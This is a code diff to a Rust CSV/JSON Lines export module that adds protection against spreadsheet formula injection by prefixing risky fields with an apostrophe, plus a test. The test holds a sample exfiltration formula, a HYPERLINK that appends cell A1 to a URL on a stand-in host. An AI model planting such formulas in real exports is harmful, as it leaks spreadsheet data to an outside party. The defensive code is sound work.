@@ -6,8 +6,14 @@
 //! UTC), `scenario_ms` and `scenario_time` (exercise time from STARTEX by the journaled clock;
 //! absent before STARTEX), `kind`, `actor`, `channel` (absent for cell-wide records),
 //! `redacted`, `body` (the text exactly as journaled: JSON parameters stay JSON text).
+//!
+//! In the CSV, a field a spreadsheet would run as a formula (it starts with `=`, `+`, `-`,
+//! `@`, a tab or a carriage return) is written with a leading `'`, as is one that starts with
+//! `'` (README.md, "CSV and spreadsheets"); the JSON Lines export is exact.
 
 use serde::Serialize;
+
+use fusioncell_scenario::export::spreadsheet_safe;
 
 use crate::format::{rfc3339, scenario_time};
 use crate::model::Entry;
@@ -84,21 +90,21 @@ pub fn csv(entries: &[Entry]) -> String {
     let _ = w.write_record(COLUMNS);
     for e in entries {
         let r = Row::of(e);
-        let _ = w.write_record([
-            r.seq.to_string().as_str(),
-            r.ts.to_string().as_str(),
+        let (seq, ts) = (r.seq.to_string(), r.ts.to_string());
+        let scenario_ms = r.scenario_ms.map(|m| m.to_string()).unwrap_or_default();
+        let row = [
+            seq.as_str(),
+            ts.as_str(),
             r.time.as_str(),
-            r.scenario_ms
-                .map(|m| m.to_string())
-                .unwrap_or_default()
-                .as_str(),
+            scenario_ms.as_str(),
             r.scenario_time.as_deref().unwrap_or(""),
             r.kind,
             r.actor,
             r.channel.unwrap_or(""),
             if r.redacted { "true" } else { "false" },
             r.body.unwrap_or(""),
-        ]);
+        ];
+        let _ = w.write_record(row.map(spreadsheet_safe).iter().map(|c| c.as_bytes()));
     }
     // Every field was a &str, so the bytes are UTF-8.
     String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
@@ -142,5 +148,18 @@ mod tests {
             body_field("{\"a\":1,\"b\":2}"),
             "\"{\"\"a\"\":1,\"\"b\"\":2}\"\r\n"
         );
+    }
+
+    #[test]
+    fn csv_fields_never_start_a_formula() {
+        assert_eq!(
+            body_field("=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
+            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\"\r\n"
+        );
+        assert_eq!(body_field("+1"), "'+1\r\n");
+        assert_eq!(body_field("-1"), "'-1\r\n");
+        assert_eq!(body_field("@A1"), "'@A1\r\n");
+        assert_eq!(body_field("'x"), "''x\r\n");
+        assert_eq!(body_field("a=b"), "a=b\r\n");
     }
 }
